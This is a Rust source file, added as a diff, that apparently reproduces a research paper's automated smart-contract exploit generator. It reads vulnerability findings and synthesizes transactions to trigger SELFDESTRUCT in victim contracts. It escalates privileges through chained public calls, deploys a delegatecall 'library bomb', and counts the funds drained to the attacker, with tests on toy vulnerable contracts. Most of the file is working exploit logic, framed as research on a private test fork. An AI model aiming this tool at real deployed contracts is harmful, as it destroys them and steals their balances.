@@ -1,0 +1,342 @@
+//! # kill — Ethainter-Kill, the automated exploit generator
+//!
+//! Reproduces the paper's §6.1 companion tool: it reads Ethainter's
+//! output, connects to a (test) network, synthesizes transactions against
+//! the flagged entry points, and verifies from the VM instruction trace
+//! that the `SELFDESTRUCT` opcode actually executed. Like the original,
+//! it supports the *accessible selfdestruct* and *tainted selfdestruct*
+//! classes, and is deliberately simple — the paper reports only a 16.7%
+//! end-to-end destruction rate, framing it as a lower bound on precision.
+//!
+//! The planner works in rounds: it first fires every flagged entry point
+//! directly; if the contract survives, it invokes the remaining public
+//! functions as state-escalation steps (the composite chain: register →
+//! refer → own) and retries, up to a bounded number of rounds.
+//!
+//! # Examples
+//!
+//! See `examples/composite_attack.rs` for the §2 Victim walked end to
+//! end.
+
+#![warn(missing_docs)]
+
+use chain::TestNet;
+use decompiler::decompile;
+use ethainter::{Report, Vuln};
+use evm::asm::Asm;
+use evm::opcode::Opcode;
+use evm::{Address, U256, World};
+use serde::{Deserialize, Serialize};
+
+/// One transaction the exploiter sent.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Step {
+    /// Function selector invoked.
+    pub selector: u32,
+    /// Whether the transaction committed.
+    pub success: bool,
+    /// Whether `SELFDESTRUCT` executed in this transaction's trace.
+    pub destroyed: bool,
+}
+
+/// The outcome of an exploitation attempt.
+#[derive(Clone, Debug, Default, Serialize, Deserialize)]
+pub struct KillOutcome {
+    /// True when the victim was verifiably destroyed (trace contains an
+    /// executed `SELFDESTRUCT` and the account is marked destroyed).
+    pub destroyed: bool,
+    /// The transactions sent, in order.
+    pub steps: Vec<Step>,
+    /// Balance the attacker gained.
+    pub funds_recovered: U256,
+}
+
+/// Exploitation budget.
+#[derive(Clone, Copy, Debug)]
+pub struct KillConfig {
+    /// Maximum escalation rounds (each round may call every public
+    /// function once).
+    pub max_rounds: usize,
+}
+
+impl Default for KillConfig {
+    fn default() -> Self {
+        KillConfig { max_rounds: 5 }
+    }
+}
+
+/// Calldata for a synthesized call: selector plus two words of the
+/// attacker's address — enough for zero-, one- and two-argument entry
+/// points (extra calldata is ignored by dispatchers).
+fn synth_calldata(selector: u32, attacker: Address) -> Vec<u8> {
+    let mut data = Vec::with_capacity(4 + 64);
+    data.extend_from_slice(&selector.to_be_bytes());
+    data.extend_from_slice(&attacker.to_u256().to_be_bytes());
+    data.extend_from_slice(&attacker.to_u256().to_be_bytes());
+    data
+}
+
+/// Attempts to destroy `victim` on a **private fork** of `net`, exactly
+/// like the paper's deployment on a private Ropsten fork: the original
+/// network is left untouched.
+pub fn exploit(net: &TestNet, victim: Address, report: &Report, cfg: &KillConfig) -> KillOutcome {
+    let mut fork = net.fork();
+    exploit_in_place(&mut fork, victim, report, cfg)
+}
+
+/// Attempts to destroy `victim` directly on `net`.
+pub fn exploit_in_place(
+    net: &mut TestNet,
+    victim: Address,
+    report: &Report,
+    cfg: &KillConfig,
+) -> KillOutcome {
+    let mut outcome = KillOutcome::default();
+
+    // Selfdestruct-class findings are exploited directly (as in the
+    // paper); tainted-delegatecall findings via a library bomb (a small
+    // extension over the original tool).
+    let kill_selectors: Vec<u32> = report
+        .findings
+        .iter()
+        .filter(|f| {
+            matches!(f.vuln, Vuln::AccessibleSelfDestruct | Vuln::TaintedSelfDestruct)
+        })
+        .flat_map(|f| f.selectors.iter().copied())
+        .collect();
+    let delegate_selectors: Vec<u32> = report
+        .findings
+        .iter()
+        .filter(|f| f.vuln == Vuln::TaintedDelegateCall)
+        .flat_map(|f| f.selectors.iter().copied())
+        .collect();
+    if kill_selectors.is_empty() && delegate_selectors.is_empty() {
+        // No public entry point reaches the flagged statement — the
+        // "could not pinpoint" case of Experiment 1.
+        return outcome;
+    }
+
+    // Recover the full public interface from the bytecode (Ethainter-Kill
+    // reads the chain, not source).
+    let code = net.code(victim);
+    let program = decompile(&code);
+    let all_selectors: Vec<u32> = program.functions.iter().map(|f| f.selector).collect();
+
+    let attacker = net.funded_account(U256::from(1_000_000u64));
+    let initial_balance = net.balance(attacker);
+
+    let try_kill = |net: &mut TestNet, outcome: &mut KillOutcome| -> bool {
+        for &sel in &kill_selectors {
+            let r = net.call_traced(attacker, victim, synth_calldata(sel, attacker), U256::ZERO);
+            let destroyed = r.success
+                && r.trace
+                    .steps
+                    .iter()
+                    .any(|s| s.op == Opcode::SelfDestruct && s.address == victim);
+            outcome.steps.push(Step { selector: sel, success: r.success, destroyed });
+            if destroyed && net.is_destroyed(victim) {
+                return true;
+            }
+        }
+        false
+    };
+
+    // Phase 1: fire the flagged entry points directly (the plain
+    // accessible-selfdestruct case).
+    let mut destroyed = try_kill(net, &mut outcome);
+
+    // Phase 2: escalate state until quiescent — each round pokes every
+    // other public function (register → refer → own chains), stopping
+    // when a round grants no new successes — then fire again. Escalating
+    // fully *before* the final kill maximizes recovered funds (the owner
+    // must already be the attacker when SELFDESTRUCT pays out).
+    if !destroyed {
+        let mut ever_succeeded: std::collections::HashSet<u32> = std::collections::HashSet::new();
+        for _round in 0..cfg.max_rounds {
+            let mut new_success = false;
+            for &sel in &all_selectors {
+                if kill_selectors.contains(&sel) {
+                    continue;
+                }
+                let r = net.call(attacker, victim, synth_calldata(sel, attacker), U256::ZERO);
+                outcome.steps.push(Step { selector: sel, success: r.success, destroyed: false });
+                if r.success && ever_succeeded.insert(sel) {
+                    new_success = true;
+                }
+            }
+            if net.is_destroyed(victim) {
+                // An escalation call itself triggered destruction.
+                destroyed = true;
+                break;
+            }
+            if !new_success {
+                break;
+            }
+        }
+        if !destroyed {
+            destroyed = try_kill(net, &mut outcome);
+        }
+    }
+
+    // Delegatecall route: deploy a library whose whole body is
+    // SELFDESTRUCT(CALLER) and steer the proxy into delegatecalling it —
+    // the selfdestruct then runs in the *victim's* context and pays the
+    // original caller (the attacker).
+    if !destroyed && !delegate_selectors.is_empty() {
+        let mut bomb = Asm::new();
+        bomb.op(Opcode::Caller).op(Opcode::SelfDestruct);
+        let lib = net.deploy(attacker, bomb.assemble());
+        for &sel in &delegate_selectors {
+            let mut data = sel.to_be_bytes().to_vec();
+            data.extend_from_slice(&lib.to_u256().to_be_bytes());
+            data.extend_from_slice(&lib.to_u256().to_be_bytes());
+            let r = net.call_traced(attacker, victim, data, U256::ZERO);
+            let hit = r.success
+                && r.trace
+                    .steps
+                    .iter()
+                    .any(|s| s.op == Opcode::SelfDestruct && s.address == victim);
+            outcome.steps.push(Step { selector: sel, success: r.success, destroyed: hit });
+            if hit && net.is_destroyed(victim) {
+                destroyed = true;
+                break;
+            }
+        }
+    }
+    outcome.destroyed = destroyed;
+
+    outcome.funds_recovered = net.balance(attacker).wrapping_sub(initial_balance);
+    outcome
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use ethainter::{analyze_bytecode, Config};
+
+    fn deploy(src: &str, funds: u64) -> (TestNet, Address, Report) {
+        let compiled = minisol::compile_source(src).unwrap();
+        let mut net = TestNet::new();
+        let deployer = net.funded_account(U256::from(1_000u64));
+        let addr = net.deploy(deployer, compiled.bytecode.clone());
+        for (slot, value) in &compiled.initial_storage {
+            net.state_mut().storage_set(addr, *slot, *value);
+        }
+        net.state_mut().set_balance(addr, U256::from(funds));
+        net.state_mut().commit();
+        let report = analyze_bytecode(&compiled.bytecode, &Config::default());
+        (net, addr, report)
+    }
+
+    #[test]
+    fn kills_unguarded_selfdestruct() {
+        let (net, victim, report) = deploy(
+            "contract C { function kill() public { selfdestruct(msg.sender); } }",
+            500,
+        );
+        let outcome = exploit(&net, victim, &report, &KillConfig::default());
+        assert!(outcome.destroyed, "{outcome:?}");
+        assert_eq!(outcome.funds_recovered, U256::from(500u64));
+        // The original network is untouched.
+        assert!(!net.is_destroyed(victim));
+    }
+
+    #[test]
+    fn kills_victim_via_composite_chain() {
+        let (net, victim, report) = deploy(
+            r#"contract Victim {
+                mapping(address => bool) admins;
+                mapping(address => bool) users;
+                address owner;
+                modifier onlyAdmins() { require(admins[msg.sender]); _; }
+                modifier onlyUsers() { require(users[msg.sender]); _; }
+                function registerSelf() public { users[msg.sender] = true; }
+                function referUser(address user) public onlyUsers { users[user] = true; }
+                function referAdmin(address adm) public onlyUsers { admins[adm] = true; }
+                function changeOwner(address o) public onlyAdmins { owner = o; }
+                function kill() public onlyAdmins { selfdestruct(owner); }
+            }"#,
+            777,
+        );
+        let outcome = exploit(&net, victim, &report, &KillConfig::default());
+        assert!(outcome.destroyed, "{outcome:?}");
+        assert_eq!(outcome.funds_recovered, U256::from(777u64));
+        // It took more than one transaction (composite).
+        assert!(outcome.steps.len() > 1);
+    }
+
+    #[test]
+    fn cannot_kill_sound_contract_even_if_told_to() {
+        // Hand Kill a fabricated report pointing at a sound contract: the
+        // exploit must fail and the verification must catch it.
+        let (net, victim, _real) = deploy(
+            r#"contract C {
+                address owner = 0x1234;
+                function kill() public { require(msg.sender == owner); selfdestruct(owner); }
+            }"#,
+            100,
+        );
+        let fake = Report {
+            findings: vec![ethainter::Finding {
+                vuln: Vuln::AccessibleSelfDestruct,
+                stmt: 0,
+                pc: 0,
+                selectors: vec![u32::from_be_bytes(evm::selector("kill()"))],
+                composite: false,
+            }],
+            ..Report::default()
+        };
+        let outcome = exploit(&net, victim, &fake, &KillConfig::default());
+        assert!(!outcome.destroyed);
+        assert!(!net.is_destroyed(victim));
+    }
+
+    #[test]
+    fn no_entry_point_reports_unpinpointed() {
+        let (net, victim, _r) = deploy("contract C { function f() public {} }", 0);
+        let report = Report {
+            findings: vec![ethainter::Finding {
+                vuln: Vuln::AccessibleSelfDestruct,
+                stmt: 0,
+                pc: 0,
+                selectors: vec![], // Ethainter could not pinpoint an entry
+                composite: false,
+            }],
+            ..Report::default()
+        };
+        let outcome = exploit(&net, victim, &report, &KillConfig::default());
+        assert!(!outcome.destroyed);
+        assert!(outcome.steps.is_empty());
+    }
+
+    #[test]
+    fn kills_via_tainted_delegatecall_library_bomb() {
+        let (net, victim, report) = deploy(
+            r#"contract Proxy {
+                function migrate(address delegate) public { delegatecall(delegate); }
+            }"#,
+            444,
+        );
+        assert!(report.has(Vuln::TaintedDelegateCall));
+        let outcome = exploit(&net, victim, &report, &KillConfig::default());
+        assert!(outcome.destroyed, "{outcome:?}");
+        assert_eq!(outcome.funds_recovered, U256::from(444u64));
+    }
+
+    #[test]
+    fn tainted_selfdestruct_recovers_funds_to_attacker() {
+        // initOwner-style: attacker first becomes the beneficiary.
+        let (net, victim, report) = deploy(
+            r#"contract C {
+                address owner;
+                function initOwner(address o) public { owner = o; }
+                function kill() public { require(msg.sender == owner); selfdestruct(owner); }
+            }"#,
+            333,
+        );
+        assert!(report.has(Vuln::TaintedSelfDestruct) || report.has(Vuln::AccessibleSelfDestruct));
+        let outcome = exploit(&net, victim, &report, &KillConfig::default());
+        assert!(outcome.destroyed, "{outcome:?}");
+        assert_eq!(outcome.funds_recovered, U256::from(333u64));
+    }
+}
